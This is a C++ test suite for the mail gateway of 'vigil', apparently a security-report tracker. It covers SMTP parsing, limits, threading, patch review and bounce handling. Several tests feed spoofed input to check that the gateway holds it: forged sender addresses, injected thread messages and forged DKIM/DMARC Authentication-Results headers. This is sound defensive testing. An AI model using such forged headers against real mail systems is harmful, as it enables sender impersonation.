// The mail gateway through the real `vigil` binary: real clients (swaks, git send-email, gpg),
// raw SMTP for bad input and pipelining, `vigil ingest` exit codes, SIGKILL durability, and
// outbound delivery to an SMTP sink run by the test (reminders, retries, dead letters).
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <set>
#include <thread>

#include "support/quoted_printable.h"
#include "test_util.h"

namespace vigil::testing {
namespace {

int SmtpPort(const ServerProcess& s, const std::string& proto = "smtp") {
  const std::string marker = proto + " listening on 127.0.0.1:";
  const size_t at = s.startup_output().find(marker);
  return at == std::string::npos ? 0 : std::atoi(s.startup_output().c_str() + at + marker.size());
}

void SendAll(int fd, const std::string& data) {
  size_t sent = 0;
  while (sent < data.size()) {
    const ssize_t n = send(fd, data.data() + sent, data.size() - sent, MSG_NOSIGNAL);
    if (n <= 0) return;
    sent += static_cast<size_t>(n);
  }
}

// Sends SCRIPT in one write (pipelined), then reads replies until the server closes.
std::string Chat(int port, const std::string& script) {
  const int fd = Connect(port);
  if (fd < 0) return "connect failed";
  std::thread writer([&] { SendAll(fd, script); });
  std::string in;
  char buf[65536];
  ssize_t n;
  while ((n = read(fd, buf, sizeof buf)) > 0) in.append(buf, static_cast<size_t>(n));
  writer.join();
  close(fd);
  return in;
}

std::string Message(const std::string& subject, const std::string& body,
                    const std::string& from = "rita@reporter.net",
                    const std::string& extra_headers = "") {
  return "From: Rita <" + from + ">\r\nTo: security@example.org\r\nSubject: " + subject +
         "\r\nMessage-ID: <" + std::to_string(std::hash<std::string>()(subject + body)) +
         "@reporter.net>\r\n" + extra_headers + "\r\n" + body + "\r\n";
}

std::string Deliver(int port, const std::string& rcpt, const std::string& message,
                    const std::string& from = "rita@reporter.net") {
  return Chat(port, "EHLO client\r\nMAIL FROM:<" + from + ">\r\nRCPT TO:<" + rcpt +
                        ">\r\nDATA\r\n" + message + ".\r\nQUIT\r\n");
}

// A minimal SMTP receiver on loopback: records each message; can be stopped and restarted on
// the same port to play a receiver that is down.
class SmtpSink {
 public:
  explicit SmtpSink(int port = 0) { Start(port); }
  ~SmtpSink() { Stop(); }
  int port() const { return port_; }
  void Start(int port) {
    fd_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    const int one = 1;
    setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(port));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (bind(fd_, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) throw std::runtime_error("bind");
    socklen_t len = sizeof a;
    getsockname(fd_, reinterpret_cast<sockaddr*>(&a), &len);
    port_ = ntohs(a.sin_port);
    listen(fd_, 16);
    stop_ = false;
    thread_ = std::thread([this] { Loop(); });
  }
  void Stop() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
    if (fd_ >= 0) close(fd_);
    fd_ = -1;
  }
  std::vector<std::string> Messages() {
    std::lock_guard<std::mutex> lock(mu_);
    return messages_;
  }

 private:
  void Loop() {
    while (!stop_) {
      pollfd p{fd_, POLLIN, 0};
      if (poll(&p, 1, 50) <= 0) continue;
      const int c = accept(fd_, nullptr, nullptr);
      if (c < 0) continue;
      Serve(c);
      close(c);
    }
  }
  void Serve(int c) {
    SendAll(c, "220 sink ESMTP\r\n");
    std::string in;
    char buf[65536];
    bool data = false;
    std::string message;
    for (;;) {
      size_t nl;
      while ((nl = in.find('\n')) != std::string::npos) {
        std::string line = in.substr(0, nl + 1);
        in.erase(0, nl + 1);
        if (data) {
          if (line == ".\r\n") {
            data = false;
            {
              std::lock_guard<std::mutex> lock(mu_);
              messages_.push_back(message);
            }
            message.clear();
            SendAll(c, "250 ok\r\n");
          } else {
            message += line[0] == '.' ? line.substr(1) : line;
          }
          continue;
        }
        const std::string verb = line.substr(0, 4);
        if (verb == "EHLO" || verb == "HELO")
          SendAll(c, "250 sink\r\n");
        else if (verb == "DATA") {
          data = true;
          SendAll(c, "354 go\r\n");
        } else if (verb == "QUIT") {
          SendAll(c, "221 bye\r\n");
          return;
        } else
          SendAll(c, "250 ok\r\n");
      }
      pollfd p{c, POLLIN, 0};
      if (poll(&p, 1, 5000) <= 0) return;
      const ssize_t n = read(c, buf, sizeof buf);
      if (n <= 0) return;
      in.append(buf, static_cast<size_t>(n));
    }
  }
  int fd_ = -1;
  int port_ = 0;
  std::atomic<bool> stop_{false};
  std::thread thread_;
  std::mutex mu_;
  std::vector<std::string> messages_;
};

int FreePort() {
  SmtpSink probe;
  const int p = probe.port();
  return p;
}

class MailTest : public ::testing::Test {
 protected:
  void Init(const std::string& extra = "") {
    InitProject(dir_.path(),
                "enabled = true\nsmtp_port = 0\nconnections_per_minute = 0\n"
                "messages_per_minute = 0\nmax_message_bytes = 1048576\nretry_base_seconds = 1\n"
                "retry_max_seconds = 2\n" +
                    extra);
    config_ = dir_.path() + "/vigil.toml";
  }
  std::string Inbox() { return RunVigil({"-c", config_, "mail", "inbox", "--json"}).out; }
  size_t Count(const std::string& haystack, const std::string& needle) {
    size_t n = 0;
    for (size_t at = haystack.find(needle); at != std::string::npos;
         at = haystack.find(needle, at + 1)) {
      ++n;
    }
    return n;
  }
  std::string ReportsJson() { return RunVigil({"-c", config_, "report", "list", "--json"}).out; }
  std::string Show(const std::string& id) {
    return RunVigil({"-c", config_, "report", "show", id, "--json"}).out;
  }
  std::string ShowText(const std::string& id) {
    return RunVigil({"-c", config_, "report", "show", id}).out;
  }
  /// EMAIL's personal reply address on report ID (`vigil mail reply-address`).
  std::string ReplyAddress(const std::string& id, const std::string& email) {
    CommandResult r = RunVigil({"-c", config_, "mail", "reply-address", id, email});
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_TRUE(r.out.ends_with("\n")) << r.out;
    return r.out.empty() ? "" : r.out.substr(0, r.out.size() - 1);
  }
  // The id of the Nth report submitted now: reports are numbered per year.
  static std::string Id(int n) {
    const time_t t = time(nullptr);
    tm tm{};
    gmtime_r(&t, &tm);
    char buf[32];
    std::snprintf(buf, sizeof buf, "SEC-%d-%04d", tm.tm_year + 1900, n);
    return buf;
  }
  // git in dir_/repo as the reporter Dev Eloper <dev@reporter.net>.
  CommandResult DevGit(std::vector<std::string> args) {
    std::vector<std::string> argv{"git",
                                  "-C",
                                  dir_.path() + "/repo",
                                  "-c",
                                  "user.name=Dev Eloper",
                                  "-c",
                                  "user.email=dev@reporter.net"};
    argv.insert(argv.end(), args.begin(), args.end());
    return vigil::testing::Run(argv);
  }
  // dir_/repo: a base commit of STEM.c, then N commits "WORD part I" each adding a line.
  bool MakeDevRepo(const std::string& stem, const std::string& word, int n) {
    const std::string repo = dir_.path() + "/repo";
    if (vigil::testing::Run({"git", "init", "-q", repo}).exit_code != 0) return false;
    std::ofstream(repo + "/" + stem + ".c") << "int " << stem << ";\n";
    if (DevGit({"add", "."}).exit_code != 0) return false;
    if (DevGit({"commit", "-qm", "base"}).exit_code != 0) return false;
    for (int i = 1; i <= n; ++i) {
      std::ofstream(repo + "/" + stem + ".c", std::ios::app) << "int " << word << i << ";\n";
      if (DevGit({"commit", "-qam", word + " part " + std::to_string(i)}).exit_code != 0) {
        return false;
      }
    }
    return true;
  }
  bool AllProcessed() {
    const std::string inbox = Inbox();
    return inbox.find("\"state\":\"stored\"") == std::string::npos;
  }

  TempDir dir_;
  std::string config_;
};

TEST_F(MailTest, SwaksReportBecomesAReportWithTemplateFields) {
  Init();
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const int port = SmtpPort(server);
  ASSERT_GT(port, 0);
  CommandResult r = vigil::testing::Run(
      {"swaks", "--server", "127.0.0.1:" + std::to_string(port), "--to", "security@example.org",
       "--from", "rita@reporter.net", "--header", "Subject: Heap overflow in the parser", "--body",
       "Reproduction steps:\nsend 70000 bytes to port 80\n\nAttack vectors:\nthe network\n"});
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("<-  250 2.0.0 Ok: queued as "), std::string::npos) << r.out;
  ASSERT_TRUE(WaitUntil([&] { return ReportsJson().find("Heap overflow") != std::string::npos; }));
  const std::string show = Show(Id(1));
  EXPECT_NE(show.find("\"subject\":\"Heap overflow in the parser\""), std::string::npos) << show;
  EXPECT_NE(show.find("\"steps\":\"send 70000 bytes to port 80\""), std::string::npos) << show;
  EXPECT_NE(show.find("\"attack_vectors\":\"the network\""), std::string::npos) << show;
  EXPECT_NE(show.find("\"email\":\"rita@reporter.net\""), std::string::npos) << show;
}

TEST_F(MailTest, SmtpRepliesToBadInputAndPipelinedCommands) {
  Init();
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const int port = SmtpPort(server);
  const std::string greeting = "220 localhost ESMTP Vigil\r\n";
  const std::string ehlo =
      "250-localhost\r\n250-PIPELINING\r\n250-SIZE 1048576\r\n250-8BITMIME\r\n"
      "250 ENHANCEDSTATUSCODES\r\n";
  // Pipelined: a foreign recipient is refused, the transaction goes on.
  std::string out = Chat(port,
                         "EHLO c\r\nMAIL FROM:<rita@reporter.net>\r\nRCPT TO:<x@elsewhere.org>\r\n"
                         "RCPT TO:<security@example.org>\r\nDATA\r\n" +
                             Message("Pipelined", "body") + ".\r\nNOOP\r\nRSET\r\nQUIT\r\n");
  EXPECT_TRUE(out.starts_with(greeting + ehlo +
                              "250 2.1.0 Ok\r\n550 5.1.1 <x@elsewhere.org>: recipient not "
                              "accepted\r\n250 2.1.5 Ok\r\n354 End data with <CR><LF>.<CR><LF>\r\n"
                              "250 2.0.0 Ok: queued as "))
      << out;
  EXPECT_TRUE(out.ends_with("\r\n250 2.0.0 Ok\r\n250 2.0.0 Ok\r\n221 2.0.0 Bye\r\n")) << out;

  // NUL bytes.
  out = Deliver(port, "security@example.org", Message("Nul", std::string("a\0b", 3)));
  EXPECT_NE(out.find("554 5.6.0 message contains NUL bytes\r\n"), std::string::npos) << out;
  // A 100 KB header line.
  out = Deliver(port, "security@example.org",
                Message("Long header", "x", "rita@reporter.net",
                        "X-Long: " + std::string(100 << 10, 'a') + "\r\n"));
  EXPECT_NE(out.find("552 5.3.4 message header is larger than 65536 bytes\r\n"), std::string::npos);
  // Over the size limit, declared and undeclared.
  out = Chat(port, "EHLO c\r\nMAIL FROM:<a@b.org> SIZE=2000000\r\nQUIT\r\n");
  EXPECT_NE(out.find("552 5.3.4 message size exceeds the limit of 1048576 bytes\r\n"),
            std::string::npos);
  std::string big;
  for (int i = 0; i < 12000; ++i) big += std::string(98, 'b') + "\r\n";
  out = Deliver(port, "security@example.org", Message("Big", big));
  EXPECT_NE(out.find("552 5.3.4 message is larger than 1048576 bytes\r\n"), std::string::npos);
  // 10,000 recipients: the first 100 are accepted, the rest told to come back.
  std::string many = "EHLO c\r\nMAIL FROM:<rita@reporter.net>\r\n";
  for (int i = 0; i < 10000; ++i) many += "RCPT TO:<security@example.org>\r\n";
  out = Chat(port, many + "DATA\r\n" + Message("Many", "x") + ".\r\nQUIT\r\n");
  EXPECT_EQ(Count(out, "250 2.1.5 Ok\r\n"), 100u);
  EXPECT_EQ(Count(out, "452 4.5.3 too many recipients\r\n"), 9900u);
  EXPECT_NE(out.find("250 2.0.0 Ok: queued as"), std::string::npos);
  // Commands out of order and unknown ones.
  out = Chat(port,
             "MAIL FROM:<a@b.org>\r\nEHLO c\r\nRCPT TO:<security@example.org>\r\nDATA\r\n"
             "VRFY x\r\nFOO\r\nQUIT\r\n");
  EXPECT_EQ(out, greeting + "503 5.5.1 send EHLO or HELO first\r\n" + ehlo +
                     "503 5.5.1 need MAIL command\r\n503 5.5.1 need MAIL command\r\n"
                     "252 2.5.2 cannot verify, but will accept the message\r\n"
                     "500 5.5.2 command not recognized\r\n221 2.0.0 Bye\r\n");
  // Missing Message-ID, truncated base64, an unknown charset: accepted and readable.
  out = Deliver(port, "security@example.org",
                "From: r@reporter.net\r\nSubject: No id\r\n\r\nplain text\r\n");
  EXPECT_NE(out.find("250 2.0.0 Ok: queued as"), std::string::npos) << out;
  out = Deliver(port, "security@example.org",
                Message("Truncated base64", "SGVsbG8gd29ybGQgZnJvbSBiYXNlNj", "rita@reporter.net",
                        "Content-Transfer-Encoding: base64\r\n"));
  EXPECT_NE(out.find("250 2.0.0 Ok: queued as"), std::string::npos) << out;
  out = Deliver(port, "security@example.org",
                Message("Unknown charset", "caf\xe9 cr\xe8me", "rita@reporter.net",
                        "Content-Type: text/plain; charset=x-no-such-charset\r\n"));
  EXPECT_NE(out.find("250 2.0.0 Ok: queued as"), std::string::npos) << out;
  ASSERT_TRUE(WaitUntil([&] { return AllProcessed(); }));
  const std::string reports = ReportsJson();
  for (const char* s : {"Pipelined", "Many", "No id", "Truncated base64", "Unknown charset"}) {
    EXPECT_NE(reports.find(s), std::string::npos) << s;
  }
  for (const char* s : {"Nul", "Long header", "Big"}) {
    EXPECT_EQ(reports.find(std::string("\"") + s), std::string::npos) << s;
  }
  // A connection dropped in the middle of DATA stores nothing.
  const size_t stored = Count(Inbox(), "\"id\":");
  {
    const int fd = Connect(port);
    SendAll(fd,
            "EHLO c\r\nMAIL FROM:<a@b.org>\r\nRCPT TO:<security@example.org>\r\nDATA\r\n"
            "Subject: half\r\n\r\nhalf a mess");
    char buf[4096];
    std::string got;
    while (got.find("354 ") == std::string::npos) {
      const ssize_t n = read(fd, buf, sizeof buf);
      if (n <= 0) break;
      got.append(buf, static_cast<size_t>(n));
    }
    close(fd);
  }
  EXPECT_EQ(Count(Inbox(), "\"id\":"), stored);
}

// [mail] smtp_connections_per_address: one address cannot hold every connection.
TEST_F(MailTest, OneAddressHoldsAtMostItsShareOfConnections) {
  Init("smtp_connections_per_address = 2");
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const int port = SmtpPort(server);
  auto greeted = [port]() {
    const int fd = Connect(port);
    char buf[256];
    const ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    EXPECT_GT(n, 0);
    EXPECT_TRUE(n > 0 && std::string(buf, static_cast<size_t>(n)).starts_with("220 ")) << n;
    return fd;
  };
  const int a = greeted();
  const int b = greeted();
  EXPECT_EQ(Chat(port, ""),
            "421 4.7.0 too many open connections from your address, try again later\r\n");
  close(a);
  // Once the server has seen it close, the address has room again.
  ASSERT_TRUE(WaitUntil([&] { return Chat(port, "QUIT\r\n").starts_with("220 "); }));
  close(b);
}

// [mail] smtp_session_seconds: a session ends at its deadline however long the idle timeout is.
TEST_F(MailTest, ASessionEndsAtItsDeadline) {
  Init("smtp_session_seconds = 1");
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const std::string out = Chat(SmtpPort(server), "EHLO c\r\n");  // then waits (idle: 300 s)
  EXPECT_TRUE(out.starts_with("220 localhost ESMTP Vigil\r\n250-localhost\r\n")) << out;
  EXPECT_TRUE(
      out.ends_with("\r\n421 4.4.2 localhost session time limit reached, closing "
                    "connection\r\n"))
      << out;
}

TEST_F(MailTest, LmtpRepliesOncePerRecipient) {
  Init("lmtp_port = 0");
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const int port = SmtpPort(server, "lmtp");
  ASSERT_GT(port, 0);
  const std::string out =
      Chat(port,
           "LHLO mta\r\nMAIL FROM:<rita@reporter.net>\r\nRCPT TO:<security@example.org>\r\n"
           "RCPT TO:<security+SEC-2026-0077@example.org>\r\nDATA\r\n" +
               Message("Via LMTP", "x") + ".\r\nQUIT\r\n");
  EXPECT_EQ(Count(out, "250 2.0.0 Ok: queued as"), 2u) << out;
}

TEST_F(MailTest, IngestExitCodes) {
  Init();
  CommandResult ok = RunVigil({"-c", config_, "ingest"}, Message("Piped report", "details"));
  EXPECT_EQ(ok.exit_code, 0) << ok.err;
  EXPECT_NE(ReportsJson().find("Piped report"), std::string::npos);
  CommandResult foreign = RunVigil({"-c", config_, "ingest", "--recipient", "x@elsewhere.org"},
                                   Message("Foreign", "x"));
  EXPECT_EQ(foreign.exit_code, 65);
  EXPECT_EQ(foreign.err, "vigil: recipient <x@elsewhere.org> not accepted\n");
  CommandResult nul = RunVigil({"-c", config_, "ingest"}, Message("N", std::string("\0", 1)));
  EXPECT_EQ(nul.exit_code, 65);
  EXPECT_EQ(nul.err, "vigil: message contains NUL bytes\n");
  CommandResult junk = RunVigil({"-c", config_, "ingest"}, "not a mail at all\n");
  EXPECT_EQ(junk.exit_code, 65);
  EXPECT_EQ(junk.err, "vigil: message does not start with a header field\n");
  CommandResult big =
      RunVigil({"-c", config_, "ingest"}, Message("Big", std::string(1100000, 'x')));
  EXPECT_EQ(big.exit_code, 65);
  EXPECT_EQ(big.err, "vigil: message is larger than 1048576 bytes\n");
  CommandResult later =
      RunVigil({"-c", dir_.path() + "/missing.toml", "ingest"}, Message("L", "x"));
  EXPECT_EQ(later.exit_code, 75);
}

TEST_F(MailTest, ReplyThreadingAndOutsiderCannotPostIntoAReport) {
  Init();
  ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("First report", "steps")).exit_code, 0);
  const std::string id = Id(1);
  ASSERT_NE(Show(id).find("First report"), std::string::npos);
  // The reporter replies through their personal reply address: a message on the thread.
  const std::string rita = ReplyAddress(id, "rita@reporter.net");
  ASSERT_EQ(RunVigil({"-c", config_, "ingest", "--recipient", rita},
                     Message("Re: [" + id + "] Report received", "more detail from rita"))
                .exit_code,
            0);
  EXPECT_NE(ShowText(id).find("--- #1 reporter rita@reporter.net"), std::string::npos)
      << ShowText(id);
  // A stranger guessing the id, or writing the reporter's From:, by plus-address or subject
  // tag: held as unverified, relayed to nobody, no report of their own.
  ASSERT_EQ(RunVigil({"-c", config_, "ingest", "--recipient", "security+" + id + "@example.org"},
                     Message("[" + id + "] injected", "stranger text", "mallory@evil.example"))
                .exit_code,
            0);
  ASSERT_EQ(RunVigil({"-c", config_, "ingest"},
                     Message("[" + id + "] as rita", "forged rita", "rita@reporter.net"))
                .exit_code,
            0);
  const std::string shown = ShowText(id);
  EXPECT_NE(shown.find("UNVERIFIED SENDER (held, not relayed; `vigil report release " + id +
                       " 2` sends it to everyone) mallory@evil.example"),
            std::string::npos)
      << shown;
  EXPECT_NE(shown.find("UNVERIFIED SENDER (held, not relayed; `vigil report release " + id +
                       " 3` sends it to everyone) rita@reporter.net"),
            std::string::npos)
      << shown;
  EXPECT_EQ(RunVigil({"-c", config_, "report", "show", Id(2)}).exit_code, 3);  // not found
  const std::string db = dir_.path() + "/data/vigil.db";
  const std::string relayed = "SELECT COUNT(*) FROM outbox WHERE body LIKE '%stranger text%'";
  EXPECT_EQ(vigil::testing::Run({"sqlite3", db, relayed}).out, "0\n");
  // The coordinator releases it: then it reaches the reporter.
  CommandResult released = RunVigil({"-c", config_, "report", "release", id, "2"});
  EXPECT_EQ(released.exit_code, 0) << released.err;
  EXPECT_EQ(released.out, id + " message #2 released as #4\n");
  EXPECT_EQ(vigil::testing::Run({"sqlite3", db, relayed}).out, "1\n");
  CommandResult again = RunVigil({"-c", config_, "report", "release", id, "2"});
  EXPECT_NE(again.err.find("message 2 of " + id + " is already released"), std::string::npos)
      << again.err;
}

TEST_F(MailTest, GitSendEmailSeriesArrivesWithItsPatchIds) {
  Init();
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const int port = SmtpPort(server);
  ASSERT_EQ(RunVigil({"-c", config_, "ingest"},
                     Message("Report for a series", "steps", "dev@reporter.net"))
                .exit_code,
            0);
  const std::string id = Id(1);
  ASSERT_TRUE(MakeDevRepo("a", "fix", 3));
  CommandResult sent = DevGit(
      {"send-email", "--smtp-server=127.0.0.1", "--smtp-server-port=" + std::to_string(port),
       "--to=" + ReplyAddress(id, "dev@reporter.net"), "--from=Dev Eloper <dev@reporter.net>",
       "--confirm=never", "--suppress-cc=all", "--no-chain-reply-to", "-3", "-q"});
  ASSERT_EQ(sent.exit_code, 0) << sent.out << sent.err;
  ASSERT_TRUE(WaitUntil([&] {
    return Count(RunVigil({"-c", config_, "mail", "patches", id}).out, "\n") == 3;
  }));
  // The same ids as `git format-patch | git patch-id --stable`.
  CommandResult fp = DevGit({"format-patch", "-3", "--stdout"});
  CommandResult ids = vigil::testing::Run({"git", "patch-id", "--stable"}, fp.out);
  const std::string listed = RunVigil({"-c", config_, "mail", "patches", id}).out;
  size_t pos = 0;
  int n = 0;
  while (pos < ids.out.size()) {
    const std::string pid = ids.out.substr(pos, 40);
    EXPECT_NE(listed.find("v1 " + std::to_string(++n) + "/3  " + pid), std::string::npos)
        << listed << ids.out;
    pos = ids.out.find('\n', pos) + 1;
  }
  EXPECT_EQ(n, 3);
  // The three mails became one revision of the patch engine, in order, with git's patch-ids.
  ASSERT_TRUE(WaitUntil([&] {
    return RunVigil({"-c", config_, "patch", "list", id, "--json"}).out.find("\"s1v1\"") !=
           std::string::npos;
  }));
  const std::string revisions = RunVigil({"-c", config_, "patch", "list", id, "--json"}).out;
  EXPECT_EQ(Count(revisions, "\"revision\":"), 1u) << revisions;
  size_t last = 0;
  for (pos = 0; pos < ids.out.size(); pos = ids.out.find('\n', pos) + 1) {
    const size_t at = revisions.find("\"patch_id\":\"" + ids.out.substr(pos, 40) + "\"");
    EXPECT_NE(at, std::string::npos) << revisions;
    EXPECT_GT(at, last);
    last = at;
  }
  EXPECT_NE(revisions.find("\"submitter\":\"dev@reporter.net\""), std::string::npos);
}

// Review trailers in replies approve the revision replied to, through the patch engine, only
// when a maintainer account sends them about themselves in mail the MTA authenticated; every
// other trailer is recorded as ignored with the reason.
TEST_F(MailTest, ReviewTrailerFromAMaintainerApprovesTheRevisionRepliedTo) {
  Init("authserv_id = \"mx.test\"\n");
  ASSERT_EQ(RunVigil({"-c", config_, "user", "add", "alice@example.org", "--role", "maintainer"})
                .exit_code,
            0);
  ServerProcess server(config_);
  ASSERT_TRUE(server.started());
  const int port = SmtpPort(server);
  ASSERT_EQ(
      RunVigil({"-c", config_, "ingest"}, Message("Overflow in parse", "steps", "dev@reporter.net"))
          .exit_code,
      0);
  const std::string id = Id(1);
  const std::string to = "security+" + id + "@example.org";
  const std::string dev = ReplyAddress(id, "dev@reporter.net");
  // Two patches by the reporter, as format-patch mail with Message-IDs of our choosing, sent to
  // the reporter's personal reply address (a git send-email --to).
  ASSERT_TRUE(MakeDevRepo("p", "check", 2));
  const std::string mbox = DevGit({"format-patch", "-2", "--stdout"}).out;
  const size_t second = mbox.find("\nFrom ", 1) + 1;
  auto smtp = [](std::string mail) {  // LF -> CRLF for the wire
    std::string out;
    for (char c : mail) out += c == '\n' ? std::string("\r\n") : std::string(1, c);
    return out;
  };
  auto strip_from_line = [](const std::string& mail) { return mail.substr(mail.find('\n') + 1); };
  const std::string p1 =
      "Message-ID: <check-1@reporter.net>\n" + strip_from_line(mbox.substr(0, second));
  const std::string p2 =
      "Message-ID: <check-2@reporter.net>\nIn-Reply-To: <check-1@reporter.net>\n"
      "References: <check-1@reporter.net>\n" +
      strip_from_line(mbox.substr(second));
  EXPECT_NE(Deliver(port, dev, smtp(p1), "dev@reporter.net").find("250 2.0.0 Ok: queued as"),
            std::string::npos);
  EXPECT_NE(Deliver(port, dev, smtp(p2), "dev@reporter.net").find("250 2.0.0 Ok: queued as"),
            std::string::npos);
  ASSERT_TRUE(WaitUntil([&] {
    return RunVigil({"-c", config_, "patch", "list", id, "--json"}).out.find("\"s1v1\"") !=
           std::string::npos;
  }));
  // The MTA (authserv-id mx.test) vouches for a sender's domain in Authentication-Results.
  const std::string dkim_ok = "Authentication-Results: mx.test; dkim=pass header.d=";
  auto reply = [&](const std::string& from, const std::string& body, const std::string& auth) {
    const std::string mail = auth + "From: <" + from + ">\r\nTo: <" + to +
                             ">\r\nSubject: Re: [PATCH 2/2] " + "check part 2\r\nMessage-ID: <" +
                             std::to_string(std::hash<std::string>()(from + body + auth)) +
                             "@example.org>\r\nIn-Reply-To: <check-2@reporter.net>\r\n"
                             "References: <check-1@reporter.net> <check-2@reporter.net>\r\n\r\n" +
                             body + "\r\n";
    EXPECT_NE(Deliver(port, to, mail, from).find("250 2.0.0 Ok: queued as"), std::string::npos);
  };
  const std::string alice = "Good.\r\n\r\nReviewed-by: Alice <alice@example.org>";
  // The author is no maintainer; alice naming someone else does not count; alice's own trailer
  // in mail the MTA did not authenticate (or that only claims another server's word) is from an
  // unverified sender: held, its trailers not even read.
  reply("dev@reporter.net", "Looks right to me.\r\n\r\nReviewed-by: Dev Eloper <dev@reporter.net>",
        dkim_ok + "reporter.net\r\n");
  reply("alice@example.org", "Bob checked it.\r\n\r\nReviewed-by: Bob <bob@example.org>",
        dkim_ok + "example.org\r\n");
  reply("alice@example.org", alice, "");
  reply("alice@example.org", alice,
        "Authentication-Results: evil.example; dmarc=pass header.from=example.org\r\n");
  reply("alice@example.org", alice, dkim_ok + "evil.example\r\n");
  // A pass forged below the MTA's own (topmost) field is not asked (RFC 8601 section 5).
  reply("alice@example.org", alice,
        "Authentication-Results: mx.test; dkim=fail header.d=example.org\r\n" + dkim_ok +
            "example.org\r\n");
  ASSERT_TRUE(WaitUntil([&] { return AllProcessed(); }));
  EXPECT_NE(RunVigil({"-c", config_, "patch", "list", id, "--json"}).out.find("\"approved\":false"),
            std::string::npos);
  reply("alice@example.org", alice, dkim_ok + "example.org\r\n");
  ASSERT_TRUE(WaitUntil([&] { return AllProcessed(); }));
  const std::string listed = RunVigil({"-c", config_, "patch", "list", id, "--json"}).out;
  EXPECT_NE(listed.find("\"approved\":true"), std::string::npos) << listed;
  EXPECT_NE(listed.find("\"approver\":\"alice@example.org\""), std::string::npos) << listed;
  const CommandResult events = vigil::testing::Run(
      {"sqlite3", dir_.path() + "/data/vigil.db",
       "SELECT kind, json_extract(payload, '$.why') FROM events WHERE kind LIKE 'patch.review%' "
       "ORDER BY time, seq"});
  EXPECT_EQ(events.out,
            "patch.review-ignored|the sender is not a maintainer\n"
            "patch.review-ignored|the trailer names someone else than the sender\n"
            "patch.review|\n")
      << events.err;
  EXPECT_EQ(vigil::testing::Run({"sqlite3", dir_.path() + "/data/vigil.db",
                                 "SELECT actor FROM events WHERE kind = 'message.held'"})
                .out,
            "unverified:alice@example.org\nunverified:alice@example.org\n"
            "unverified:alice@example.org\nunverified:alice@example.org\n");
  EXPECT_EQ(RunVigil({"-c", config_, "audit", "verify"}).exit_code, 0);
}

// A delivery status notification for one of Vigil's messages, to that message's bounce address,
// marks its recipient bouncing: the thread stops mailing them, and the event says so. One to
// any other address is ignored, whoever it names.
TEST_F(MailTest, BounceMarksTheParticipantAndStopsMailingThem) {
  Init();
  ASSERT_EQ(RunVigil({"-c", config_, "ingest"}, Message("Crash in decoder", "steps")).exit_code, 0);
  const std::string id = Id(1);
  ASSERT_EQ(RunVigil({"-c", config_, "report", "invite", id, "--email", "olga@distro.example",
                      "--role", "observer"})
                .exit_code,
            0);
  const std::string dsn =
      "From: Mail Delivery System <MAILER-DAEMON@mx.example.org>\r\n"
      "To: <security+" +
      id +
      "@example.org>\r\n"
      "Subject: Undelivered Mail Returned to Sender\r\n"
      "Message-ID: <bounce-1@mx.example.org>\r\n"
      "MIME-Version: 1.0\r\n"
      "Content-Type: multipart/report; report-type=delivery-status; boundary=\"b1\"\r\n\r\n"
      "--b1\r\nContent-Type: text/plain\r\n\r\nThe mail could not be delivered.\r\n"
      "--b1\r\nContent-Type: message/delivery-status\r\n\r\n"
      "Reporting-MTA: dns; mx.example.org\r\n\r\n"
      "Final-Recipient: rfc822; olga@distro.example\r\nAction: failed\r\nStatus: 5.1.1\r\n"
      "--b1--\r\n";
  const std::string db = dir_.path() + "/data/vigil.db";
  CommandResult forged =
      RunVigil({"-c", config_, "ingest", "--recipient", "security+" + id + "@example.org"}, dsn);
  ASSERT_EQ(forged.exit_code, 0) << forged.err;
  EXPECT_EQ(vigil::testing::Run(
                {"sqlite3", db, "SELECT COUNT(*) FROM events WHERE kind = 'participant.bouncing'"})
                .out,
            "0\n");
  const std::string olga_mail =
      vigil::testing::Run(
          {"sqlite3", db, "SELECT MIN(id) FROM outbox WHERE recipient = 'olga@distro.example'"})
          .out;
  ASSERT_FALSE(olga_mail.empty());
  CommandResult verp = RunVigil(
      {"-c", config_, "mail", "bounce-address", olga_mail.substr(0, olga_mail.size() - 1)});
  ASSERT_EQ(verp.exit_code, 0) << verp.err;
  ASSERT_TRUE(verp.out.starts_with("security+" + id + ".b")) << verp.out;
  std::string real = dsn;
  real.replace(real.find("Message-ID: <bounce-1@"), 22, "Message-ID: <bounce-2@");
  CommandResult in = RunVigil(
      {"-c", config_, "ingest", "--recipient", verp.out.substr(0, verp.out.size() - 1)}, real);
  ASSERT_EQ(in.exit_code, 0) << in.err;
  EXPECT_EQ(vigil::testing::Run({"sqlite3", db,
                                 "SELECT json_extract(payload, '$.emails[0]') FROM events WHERE "
                                 "kind = 'participant.bouncing'"})
                .out,
            "olga@distro.example\n");
  const std::string count = "SELECT COUNT(*) FROM outbox WHERE recipient = 'olga@distro.example'";
  const std::string before = vigil::testing::Run({"sqlite3", db, count}).out;
  ASSERT_EQ(RunVigil({"-c", config_, "report", "message", id, "--body", "An update."}).exit_code,
            0);
  EXPECT_EQ(vigil::testing::Run({"sqlite3", db, count}).out, before);
  EXPECT_NE(vigil::testing::Run({"sqlite3", db,
                                 "SELECT COUNT(*) FROM outbox WHERE recipient = "
                                 "'rita@reporter.net'"})
                .out,
            "0\n");
  // The bounce is not a message on the thread.
  EXPECT_EQ(Show(id).find("could not be delivered"), std::string::npos);
}

TEST_F(MailTest, GpgEncryptedMailIsReadAndUnknownKeyRefused) {
  Init();
  TempDir gnupg;
